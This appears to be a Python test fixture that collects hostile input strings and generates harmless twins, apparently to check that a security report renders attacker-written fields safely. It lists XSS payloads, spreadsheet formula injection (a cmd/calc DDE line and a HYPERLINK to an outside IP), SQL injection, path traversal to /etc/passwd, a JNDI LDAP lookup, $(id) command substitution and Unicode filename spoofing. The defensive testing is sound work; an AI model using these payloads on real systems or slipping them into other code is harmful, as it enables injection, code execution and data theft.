"""Every hostile string of the sample, in one place.

Attackers write user agents, session names, finding titles, tag values, resource ids, package paths, user names and
error messages. Each entry of `HOSTILE` goes into a field that an attacker can write; `text(name)` gives it.

The benign run gives a harmless twin instead: every character that could mean something to a parser becomes `x`,
everything else stays, so that the number of words, the distinctness, the order and (but for blanks and one character)
the length are the same. The report over the benign run must have the same elements as the one over the hostile run.
"""

LONG_AGENT = "ExampleProbe/1.0 (compatible; +http://203.0.113.9/) " + "<b>A</b>&nbsp;" * 700 + "end"

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script-in-session": "<script>alert(document.domain)</script>",
    "img-onerror": '"><img src=x onerror=alert(1)>',
    "img-onerror-single": "'><svg/onload=alert(2)>",
    "close-table": "</td></tr></table>",
    "close-page": "</style></script></body></html>",
    "comment": "<!-- --> --!>",
    "comment-open": "<!--",
    "cdata": "<![CDATA[ ]]>",
    "markdown": "**bold** [x](javascript:alert(1)) ![i](http://203.0.113.9/x.png) `backticks` | pipe | # heading",
    "markdown-heading": "# heading\n\n- item\n\n> quote\n\n---",
    "markdown-link": "[x](javascript:alert(1))",
    "markdown-table": "a | b \\| c\n| --- | --- |\n| d | e |",
    "markdown-reference": "[x]: http://203.0.113.9/ 'title'",
    "autolink": "<http://203.0.113.9/?q=<script>>",
    "fence": "```",
    "fence-sql": "```sql hostile\nSELECT 1\n```",
    "template-value": "{{ finding.title }}",
    "template-include": "<!-- include x -->",
    "template-each": "<!-- each finding --> {{ title }} <!-- end -->",
    "javascript": "javascript:alert(1)",
    "data-link": "data:text/html,<script>alert(1)</script>",
    "csv-hyperlink": '=HYPERLINK("http://203.0.113.9","x")',
    "csv-command": "=cmd|'/C calc'!A0",
    "csv-plus": "+1+1",
    "csv-minus": "-2+3",
    "csv-at": "@SUM(A1)",
    "csv-tab": "\t=1+1",
    "csv-return": "\r=2+2",
    "csv-quote": '","=1+1","',
    "sql": "'; DROP TABLE finding; --",
    "right-to-left": "invoice\u202egpj.exe",
    "right-to-left-mark": "\u200f\u05d0\u05d1 mark \u200e end",
    "isolate": "\u2066open\u2067isolate",
    "zero-width": "admin\u200b\u200d\u2060\ufeff",
    "control": "bell\u0007 one\u0001 backspace\u0008\u0008\u0008",
    "delete": "del\u007f c1\u009b31m",
    "terminal": "\u001b[31mred\u001b[0m \u001b]0;title\u0007",
    "terminal-link": "\u001b]8;;http://203.0.113.9\u001b\\click\u001b]8;;\u001b\\",
    "line-separator": "one\u2028two\u2029three\u0085four",
    "entity": "&amp; &lt;script&gt; &#60; &#x3c;",
    "entity-open": "&amp &notanentity; &",
    "emoji": "\U0001f9e8\U0001f468\u200d\U0001f469\u200d\U0001f467 cafe\u0301 Z\u0351\u034d\u0362algo "
             "\u00c5ngstr\u00f6m",  # fmt: skip
    "non-character": "\ufffe\ufffd \U0001fffe",
    "newline": "first line\nsecond line\r\nthird line",
    "slack": "<!channel> <@U0123456> <http://203.0.113.9|click>",
    "slack-escape": "&lt;!here&gt; *bold* _it_ ~no~ `code`",
    "mail-header": "Re: report\r\nBcc: x@example.com\r\n\r\nbody",
    "path": "../../../../etc/passwd",
    "path-null": "C:\\Windows\\..\\%00..%2f",
    "format": "%s%n%@ \\(title) ${jndi:ldap://203.0.113.9/a} $(id) `id`",
    "long-agent": LONG_AGENT,
    "long-word": "W" + "\u202e\u0301" * 400,
}

_KEEP = frozenset("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789/.")


def harmless(hostile):
    """The harmless twin of a hostile string: as many words, about as long, in the same place when sorted."""
    twin = "".join(c if c in _KEEP else " " if c.isspace() else "x" for c in hostile)
    # Blanks at the ends and double ones would be lost in print, and the two runs would differ for that alone.
    return " ".join((_start(hostile) + twin[1:]).split())


def _start(hostile):
    """What the twin begins with, so that it stands where the hostile string would, among others and its like."""
    bucket = _bucket(hostile)
    if bucket == "":
        return hostile[0]
    peers = sorted(value for value in HOSTILE.values() if _bucket(value) == bucket)
    return bucket + chr(ord("a") + peers.index(hostile))


def _bucket(hostile):
    """A harmless character that sorts as the first one does, compared with letters and digits; empty for those."""
    first = hostile[0]
    if first.isascii() and first.isalnum():
        return ""
    for last, bucket in (("0", "0"), ("@", "9"), ("A", "A0"), ("a", "Z")):
        if first < last:
            return bucket
    return "z"


class Hostile:
    """Gives the hostile strings, or their harmless twins, and knows which were asked for."""

    def __init__(self, benign):
        self.benign = benign
        self.used = set()
        twins = [harmless(value) for value in HOSTILE.values()]
        assert len(set(twins)) == len(HOSTILE), "two hostile strings have the same twin"

    def text(self, name):
        """The string of that name."""
        self.used.add(name)
        return harmless(HOSTILE[name]) if self.benign else HOSTILE[name]

    def assert_all_used(self):
        """A hostile string that is written nowhere tests nothing."""
        unused = sorted(set(HOSTILE) - self.used)
        assert not unused, f"hostile strings that no sample holds: {', '.join(unused)}"
